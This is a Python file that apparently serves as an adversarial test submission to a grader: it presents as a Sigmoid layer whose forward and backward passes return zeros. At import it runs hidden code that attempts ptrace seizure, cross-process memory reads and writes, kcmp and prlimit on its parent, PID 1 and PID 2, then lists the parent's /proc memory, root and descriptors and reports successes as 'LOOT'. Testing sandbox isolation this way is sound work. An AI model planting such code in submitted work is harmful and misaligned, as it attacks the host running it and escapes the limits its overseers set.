# Tries: takes hold of other processes: ptrace, their memory, their descriptors, their limits
# Deserves: 0 (all its answers are zeros)
import ctypes
import os
import platform

ARM = platform.machine() == "aarch64"
READ, WRITE = (270, 271) if ARM else (310, 311)
KCMP, GETFD, MADVISE = 272 if ARM else 312, 438, 440
SEIZE, TRACEME = 0x4206, 0
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(16)
vector = (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), 8)
got_through = []
for pid in (os.getpid(), os.getppid(), 1, 2):
    for what, call in (
        ("read", lambda: libc.syscall(READ, pid, vector, 1, vector, 1, 0)),
        ("write", lambda: libc.syscall(WRITE, pid, vector, 1, vector, 1, 0)),
        ("seize", lambda: libc.ptrace(SEIZE, pid, 0, 0)),
        ("compare", lambda: libc.syscall(KCMP, pid, pid, 1, 0, 0)),
        ("limits", lambda: libc.prlimit(pid, 7, vector, 0) if pid == os.getppid() else -1),
    ):
        if call() >= 0:
            got_through.append(f"{what} {pid}")
for name in ("mem", "ns/user", "root", "cwd", "fdinfo", "task"):
    try:
        os.stat(f"/proc/{os.getppid()}/{name}/")
        got_through.append(name) if os.listdir(f"/proc/{os.getppid()}/{name}") else None
    except OSError:
        continue
if got_through:
    raise RuntimeError("LOOT " + " ".join(got_through))


class Sigmoid:
    def forward(self, x):
        return x * 0

    def backward(self, dout):
        return dout * 0
